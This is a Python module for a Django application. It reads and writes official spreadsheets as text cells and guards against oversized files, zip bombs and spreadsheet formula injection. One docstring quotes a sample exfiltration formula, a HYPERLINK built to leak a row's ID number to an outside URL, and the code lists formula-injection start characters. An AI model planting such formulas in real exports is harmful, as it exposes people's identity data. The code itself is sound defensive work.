"""Read and write the spreadsheets officials live in (.xlsx and .csv), all cells as text.

ID numbers, phone numbers and credit codes must never pass through a float, so every cell is read
as a string: integral floats lose their ".0", everything else keeps Excel's text.

Reading is bounded (issue 8 #1, X-4): a file is refused as soon as it passes its row, cell or size
limit, before it can take the worker's memory or minutes of its time.

- CSV is streamed: one pass settles the encoding (UTF-8 or GBK), a second yields the rows while
  counting rows, cells and bytes; nothing but the current row is held.
- .xlsx is a zip of XML parts. ``python-calamine`` (fast: ~13 s for a million rows, where openpyxl
  takes minutes) loads a whole sheet into a *dense* grid from its first to its last filled cell, so a
  1 KB file with values in A1 and ZZ200000 costs it 4 GB. Before calamine sees a file, we therefore
  (1) add up the uncompressed sizes the zip's central directory declares for its parts — Python's
  ``zipfile`` never yields more than a part declares, and calamine's zip reader refuses a part that
  inflates beyond it, so the declared sizes are a true bound — and refuse above the unpacked limit
  (the 771 MB bomb of the issue is refused here, without inflating anything);
  (2) inflate the first sheet in 1 MB chunks and find every filled cell's reference, refusing as soon
  as the sheet reaches past the row limit or its grid past the cell limit;
  (3) count the shared strings calamine would hold.
  Only then does calamine load the sheet, and rows are handed on one at a time.
"""

import codecs
import csv
import io
import re
import xml.etree.ElementTree as ElementTree
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from operator import itemgetter
from posixpath import join as posix_join
from posixpath import normpath
from typing import IO, Any

from django.conf import settings
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font, PatternFill
from openpyxl.utils import get_column_letter
from python_calamine import CalamineWorkbook

CHUNK = 1 << 20
CSV_SUFFIXES = (".csv",)
XLSX_SUFFIXES = (".xlsx", ".xlsm")
# Leading rows above the header (titles, blank lines) that the sheet may have on top of its row limit.
LEADING_ROWS = 100


class TableReadError(Exception):
    """The file as a whole cannot be read (wrong type, not a spreadsheet, empty, too large)."""


class TableTooLarge(TableReadError):
    """The file passes one of its limits; the message names the limit."""


@dataclass(frozen=True)
class ReadLimits:
    """What one file may hold. ``max_rows`` counts data rows (the header comes on top)."""

    max_rows: int
    max_cells: int
    max_bytes: int  # the file as uploaded (an .xlsx compressed)
    max_unpacked_bytes: int  # an .xlsx's XML parts once unpacked

    @classmethod
    def for_import(cls, max_rows: int) -> "ReadLimits":
        """Registry imports (enterprises, employees, pharmacy sales): the page-upload limits."""
        return cls(
            max_rows=max_rows,
            max_cells=settings.IMPORT_MAX_CELLS,
            max_bytes=settings.IMPORT_MAX_BYTES,
            max_unpacked_bytes=settings.IMPORT_MAX_UNPACKED_BYTES,
        )

    @classmethod
    def for_bulk(cls) -> "ReadLimits":
        """Bulk files of person-level records (test results, venue scans)."""
        return cls(
            max_rows=settings.BULK_IMPORT_MAX_ROWS,
            max_cells=settings.BULK_IMPORT_MAX_CELLS,
            max_bytes=settings.BULK_IMPORT_MAX_BYTES,
            max_unpacked_bytes=settings.BULK_IMPORT_MAX_UNPACKED_BYTES,
        )


def _mb(size: int) -> str:
    return f"{size / 2**20:g}"


def too_many_rows(limits: ReadLimits) -> TableTooLarge:
    return TableTooLarge(
        _("The file has more than %(count)d data rows; at most %(count)d rows can be imported at once.")
        % {"count": limits.max_rows}
    )


def too_many_cells(limits: ReadLimits) -> TableTooLarge:
    return TableTooLarge(
        _("The sheet spans more than %(count)d cells, the limit for one file; remove unused rows and columns.")
        % {"count": limits.max_cells}
    )


def too_big(limits: ReadLimits) -> TableTooLarge:
    return TableTooLarge(_("The file is larger than %(mb)s MB.") % {"mb": _mb(limits.max_bytes)})


def too_big_unpacked(limits: ReadLimits) -> TableTooLarge:
    return TableTooLarge(
        _("Unpacked, the workbook is larger than %(mb)s MB, the limit for one file.")
        % {"mb": _mb(limits.max_unpacked_bytes)}
    )


def _not_a_workbook() -> TableReadError:
    return TableReadError(_("The file could not be read as an Excel workbook."))


def is_blank(row: Sequence[str]) -> bool:
    return not any(cell.strip() for cell in row)


# --- Cells ------------------------------------------------------------------------------------


def _cell_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "是" if value else "否"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime):
        return value.date().isoformat() if value.time() == datetime.min.time() else value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    return str(value).strip()


# --- CSV ----------------------------------------------------------------------------------------


def _csv_survey(source: IO[bytes], limits: ReadLimits) -> tuple[str, int]:
    """The encoding and the number of lines, in one streaming pass bounded by the byte limit: UTF-8 (with
    or without BOM) if the whole file decodes as UTF-8, else GBK (read as GB18030, its superset), as Excel
    on Chinese Windows saves CSV."""
    decoder = codecs.getincrementaldecoder("utf-8")()
    size = lines = 0
    utf8 = True
    while chunk := source.read(CHUNK):
        size += len(chunk)
        if size > limits.max_bytes:
            raise too_big(limits)
        lines += chunk.count(b"\n")
        if utf8:
            try:
                decoder.decode(chunk)
            except UnicodeDecodeError:
                utf8 = False
    if utf8:
        try:
            decoder.decode(b"", final=True)
        except UnicodeDecodeError:
            utf8 = False
    return ("utf-8-sig" if utf8 else "gb18030"), lines + 1


def _csv_rows(source: IO[bytes], encoding: str, limits: ReadLimits) -> Iterator[list[str]]:
    source.seek(0)
    text = io.TextIOWrapper(source, encoding=encoding, newline="")  # type: ignore[type-var]
    text._CHUNK_SIZE = CHUNK  # type: ignore[attr-defined]  # decode in large pieces, not 8 KB ones
    rows = cells = 0
    try:
        # Cells are handed on as they are (every reader strips what it uses): per-cell work here costs
        # seconds on a million-row file.
        for row in csv.reader(text):
            cells += len(row)
            if cells > limits.max_cells:
                raise too_many_cells(limits)
            if any(row):  # a row of spaces counts too: the limit errs on the safe side
                rows += 1
                if rows > limits.max_rows + 1:
                    raise too_many_rows(limits)
            yield row
    except UnicodeDecodeError as exc:
        raise TableReadError(_("The CSV file is neither UTF-8 nor GBK encoded.")) from exc
    except csv.Error as exc:
        raise TableReadError(_("The CSV file could not be read.")) from exc
    finally:
        text.detach()  # leave the caller's file open


# --- .xlsx ---------------------------------------------------------------------------------------

_PREFIX = rb"(?:[A-Za-z_][\w.-]*:)?"
# The common form of a cell tag, reference first: <c r="B12" t="s">, or <c r="B12" s="3"/> (empty).
_CELL_TAG = re.compile(rb'<c r="([A-Za-z]+)([0-9]+)"(?:\s+[\w:.-]+\s*=\s*"[^"]*")*\s*(/?)>')
# Any row or cell tag, attributes read with their quotes (a ">" may stand inside a value).
_TAG = re.compile(rb"<" + _PREFIX + rb"""(row|c)(?=[\s/>])((?:[^>"']|"[^"]*"|'[^']*')*)>""")
_ATTRIBUTE = re.compile(rb"""([\w:.-]+)\s*=\s*(?:"([^"]*)"|'([^']*)')""")
_REF = re.compile(rb"([A-Za-z]+)([0-9]+)")
_SHARED_STRING = re.compile(rb"<" + _PREFIX + rb"si(?=[\s/>])")
_COLUMNS: dict[bytes, int] = {}
_ROW, _COL = itemgetter(1), itemgetter(0)


def _column(letters: bytes) -> int:
    index = _COLUMNS.get(letters)
    if index is None:
        index = 0
        for char in letters.upper():
            index = index * 26 + char - 64
        if len(_COLUMNS) < 100_000:
            _COLUMNS[letters] = index
    return index


@dataclass
class _Extent:
    """The grid calamine would allocate for the filled cells: rows from the top (rows are handed on
    from row 1, so that positions stay the sheet's), columns from the first filled one."""

    limits: ReadLimits
    max_row: int = 0
    min_col: int = 1 << 62
    max_col: int = 0

    def add(self, rows: Iterable[bytes], cols: Iterable[bytes]) -> None:
        self.max_row = max(self.max_row, max(map(int, rows), default=0))
        for letters in cols:
            index = _column(letters)
            self.min_col = min(self.min_col, index)
            self.max_col = max(self.max_col, index)
        self.check()

    def add_cell(self, row: int, col: int) -> None:
        self.max_row = max(self.max_row, row)
        self.min_col = min(self.min_col, col)
        self.max_col = max(self.max_col, col)

    def check(self) -> None:
        if self.max_row > self.limits.max_rows + 1 + LEADING_ROWS:
            raise too_many_rows(self.limits)
        if self.max_col and self.max_row * (self.max_col - self.min_col + 1) > self.limits.max_cells:
            raise too_many_cells(self.limits)


def _buffers(archive: zipfile.ZipFile, name: str) -> Iterator[bytes]:
    """The part inflated in chunks, each cut before its last "<" (the rest opens the next one), so that no
    tag is split between two buffers."""
    rest = b""
    with archive.open(name) as part:
        while chunk := part.read(CHUNK):
            buffer = rest + chunk
            cut = buffer.rfind(b"<")
            if cut <= 0:
                rest = buffer
                if len(rest) > 16 * CHUNK:  # 16 MB without a tag: not a worksheet we can read
                    raise _not_a_workbook()
                continue
            rest = buffer[cut:]
            yield buffer[:cut]
    if rest:
        yield rest


def _attribute_r(attributes: bytes) -> bytes | None:
    for match in _ATTRIBUTE.finditer(attributes):
        if match.group(1) == b"r":
            return match.group(2) if match.group(2) is not None else match.group(3)
    return None


def _cell_ref(attributes: bytes) -> tuple[int, int] | None:
    """(row, column) of a cell tag's ``r``, or None. A reference calamine could not read either is placed
    far away, so that it is refused rather than under-counted."""
    value = _attribute_r(attributes)
    if value is None:
        return None
    ref = _REF.fullmatch(value.strip())
    if ref is None:
        return (1 << 40, 1 << 20)
    return int(ref.group(2)), _column(ref.group(1))


def _scan_tags(buffer: bytes, extent: _Extent) -> bool:
    """Every cell tag of one buffer, whatever its form; False if a filled cell leaves its place implicit."""
    for match in _TAG.finditer(buffer):
        tag, attributes = match.groups()
        if tag != b"c" or attributes.endswith(b"/"):
            continue
        ref = _cell_ref(attributes)
        if ref is None:
            return False
        extent.add_cell(*ref)
    extent.check()
    return True


def _scan_sheet(archive: zipfile.ZipFile, name: str, limits: ReadLimits) -> None:
    """Bound the sheet's grid. Nearly every writer puts the reference first in every cell tag: then one
    regular expression over a buffer finds every cell (the counts prove it) at about a microsecond a cell;
    other buffers go tag by tag."""
    extent = _Extent(limits)
    for buffer in _buffers(archive, name):
        cells = _CELL_TAG.findall(buffer) if b":c" not in buffer else None
        if cells is not None and len(cells) == buffer.count(b"<c"):
            filled = [cell for cell in cells if not cell[2]]  # (column, row, "/" if empty)
            if filled:
                extent.add(set(map(_ROW, filled)), set(map(_COL, filled)))
        elif not _scan_tags(buffer, extent):
            _scan_sheet_implicit(archive, name, limits)
            return


def _scan_sheet_implicit(archive: zipfile.ZipFile, name: str, limits: ReadLimits) -> None:
    """Some cells carry no reference: place them as calamine does (after the previous cell of the row)."""
    extent = _Extent(limits)
    row = col = 0
    for buffer in _buffers(archive, name):
        for match in _TAG.finditer(buffer):
            tag, attributes = match.groups()
            if tag == b"row":
                number = _attribute_r(attributes)
                row = int(number) if number is not None and number.strip().isdigit() else row + 1
                col = 0
                continue
            ref = _cell_ref(attributes)
            if ref is not None:
                row, col = ref
            else:
                col += 1
            if not attributes.endswith(b"/"):
                extent.add_cell(row, col)
        extent.check()


def _local(tag: str) -> str:
    return tag.rsplit("}", 1)[-1]


def _first_sheet_parts(archive: zipfile.ZipFile) -> list[str]:
    """The part calamine opens as sheet 0: the first <sheet> of the workbook, through its relationship.
    If that cannot be worked out, every worksheet part (all are then checked)."""
    fallback = [name for name in archive.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
    try:
        workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        relations = ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
    except (KeyError, ElementTree.ParseError, zipfile.BadZipFile):
        return fallback
    sheet = next((element for element in workbook.iter() if _local(element.tag) == "sheet"), None)
    if sheet is None:
        return fallback
    rid = next((value for key, value in sheet.attrib.items() if _local(key) == "id"), None)
    for relation in relations.iter():
        if _local(relation.tag) == "Relationship" and relation.get("Id") == rid:
            target = relation.get("Target", "")
            path = target.lstrip("/") if target.startswith("/") else normpath(posix_join("xl", target))
            if path in archive.NameToInfo:
                return [path]
    return fallback


def check_xlsx(source: IO[bytes], limits: ReadLimits) -> None:
    """Refuse a workbook that passes its limits, before anything loads it (see the module's docstring)."""
    source.seek(0, io.SEEK_END)
    if source.tell() > limits.max_bytes:
        raise too_big(limits)
    source.seek(0)
    try:
        archive = zipfile.ZipFile(source)
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, ValueError, EOFError) as exc:
        raise _not_a_workbook() from exc
    with archive:
        infos = archive.infolist()
        if len({info.filename for info in infos}) != len(infos):
            raise _not_a_workbook()  # two parts of one name: another reader might open the other one
        unpacked = sum(info.file_size for info in infos)
        if unpacked > limits.max_unpacked_bytes:
            raise too_big_unpacked(limits)
        try:
            for name in _first_sheet_parts(archive):
                _scan_sheet(archive, name, limits)
            strings = 0
            for name in [name for name in archive.NameToInfo if name.lower().endswith("sharedstrings.xml")]:
                for buffer in _buffers(archive, name):
                    if b":si" in buffer:
                        strings += len(_SHARED_STRING.findall(buffer))
                    else:
                        strings += buffer.count(b"<si>") + buffer.count(b"<si ") + buffer.count(b"<si/")
                    if strings > limits.max_cells:
                        raise too_many_cells(limits)
        except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, EOFError, RuntimeError, NotImplementedError) as exc:
            raise _not_a_workbook() from exc  # corrupt, encrypted or an unknown compression
    source.seek(0)


def _xlsx_rows(sheet: Any) -> Iterator[list[str]]:
    rows = sheet.iter_rows()
    while True:
        try:
            row = next(rows)
        except StopIteration:
            return
        except Exception as exc:  # calamine raises several types for corrupt files
            raise _not_a_workbook() from exc
        yield [_cell_text(cell) for cell in row]


@dataclass
class Table:
    """The rows of a file's first sheet, and how many to expect (for a progress bar)."""

    rows: Iterator[list[str]]
    total: int


def open_table(source: IO[bytes], filename: str, limits: ReadLimits) -> Table:
    """Check a file against its limits and open its rows: every row as text cells, header included, blank
    rows too (positions are the sheet's rows). ``TableReadError`` (``TableTooLarge`` past a limit) comes
    from here or while iterating. ``source`` must be seekable."""
    lowered = filename.lower()
    if lowered.endswith(CSV_SUFFIXES):
        source.seek(0)
        encoding, lines = _csv_survey(source, limits)
        return Table(_csv_rows(source, encoding, limits), lines)
    if lowered.endswith(XLSX_SUFFIXES):
        check_xlsx(source, limits)
        try:
            sheet = CalamineWorkbook.from_filelike(source).get_sheet_by_index(0)
            start = sheet.start
            total = start[0] + sheet.height if start is not None else 0
        except Exception as exc:  # calamine raises several types for corrupt files
            raise _not_a_workbook() from exc
        return Table(_xlsx_rows(sheet), total)
    raise TableReadError(_("Only .xlsx and .csv files can be imported."))


def iter_rows(source: IO[bytes], filename: str, limits: ReadLimits) -> Iterator[list[str]]:
    """``open_table(...).rows``, checked lazily on the first row."""
    yield from open_table(source, filename, limits).rows


# --- Writing --------------------------------------------------------------------------------------

_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")


@dataclass
class Sheet:
    """One sheet of an exported workbook: a bold header row (if any), then the rows."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[Any]]
    widths: dict[int, float] = field(default_factory=dict)  # column (1-based) → width, else from the header


def _text(value: Any) -> str:
    # openpyxl refuses control characters that XML 1.0 cannot carry; drop them rather than fail the export.
    return ILLEGAL_CHARACTERS_RE.sub("", value if isinstance(value, str) else _cell_text(value))


def _export_cell(sheet: Any, value: Any) -> Any:
    """Numbers stay numbers; everything else is a text cell holding the value as it is.

    Issue 8 #3: openpyxl writes a string beginning with "=" as a live formula, so a name such as
    ``=HYPERLINK("http://…/?"&F101,"x")`` would run in the official's Excel and could send a row's full
    ID number away on a click. Forcing the string type (and the text number format, which also keeps
    codes and phone numbers from turning into numbers when edited) makes every text inert, unchanged."""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    cell = WriteOnlyCell(sheet, value=_text(value))
    cell.data_type = "s"
    cell.number_format = "@"
    return cell


def write_workbook(sheets: Sequence[Sheet]) -> bytes:
    """An .xlsx of the given sheets, streamed row by row (openpyxl's write-only mode keeps memory flat)."""
    workbook = Workbook(write_only=True)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.title[:31])
        for index, header in enumerate(spec.headers, start=1):
            width = spec.widths.get(index, max(10, min(40, len(header) * 2 + 4)))
            sheet.column_dimensions[get_column_letter(index)].width = width
        for index, width in spec.widths.items():
            sheet.column_dimensions[get_column_letter(index)].width = width
        if spec.headers:
            sheet.freeze_panes = "A2"
            header_cells = []
            for header in spec.headers:
                cell = _export_cell(sheet, header)
                cell.font = _HEADER_FONT
                cell.fill = _HEADER_FILL
                header_cells.append(cell)
            sheet.append(header_cells)
        for row in spec.rows:
            sheet.append([_export_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def write_xlsx(
    headers: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet_title: str, notes: Sequence[str] = ()
) -> bytes:
    """A workbook with a bold header row, text cells and optional notes on a second sheet."""
    sheets = [Sheet(sheet_title, headers, rows)]
    if notes:
        sheets.append(Sheet(_("Instructions"), [], ([line] for line in notes), widths={1: 100}))
    return write_workbook(sheets)


# A text cell a spreadsheet would run as a formula when the file is opened (OWASP "CSV injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv_cell(value: Any) -> Any:
    """Numbers as numbers; a text beginning like a formula is written behind an apostrophe, which Excel and WPS
    show as plain text (the .xlsx export keeps such a text inert by its cell type instead, issue 8 #3)."""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = value if isinstance(value, str) else _cell_text(value)
    return f"'{text}" if text.startswith(_FORMULA_START) else text


def unquoted(text: str) -> str:
    """A cell as it was before ``write_csv`` put an apostrophe before it, so that an exported file imports back
    unchanged (a phone "+86…" stays "+86…"); any other text is returned as it is."""
    return text[1:] if text[:1] == "'" and text[1:2] in _FORMULA_START else text


def write_csv(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file in UTF-8 with a byte-order mark: without it Excel on a Chinese Windows reads the file as GBK and
    every name comes out garbled. The import reads it back (``open_table`` recognises the mark)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([_csv_cell(header) for header in headers])
    for row in rows:
        writer.writerow([_csv_cell(value) for value in row])
    return codecs.BOM_UTF8 + buffer.getvalue().encode("utf-8")
